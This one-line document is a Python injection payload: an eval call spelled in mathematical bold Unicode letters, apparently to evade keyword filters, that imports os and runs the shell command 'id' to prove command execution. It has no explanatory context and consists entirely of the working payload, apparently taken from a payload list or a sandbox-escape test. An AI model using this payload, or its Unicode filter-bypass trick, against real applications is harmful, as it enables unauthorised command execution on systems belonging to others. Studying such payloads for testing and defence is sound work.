𝐞𝐯𝐚𝐥("__import__('os').system('id')")
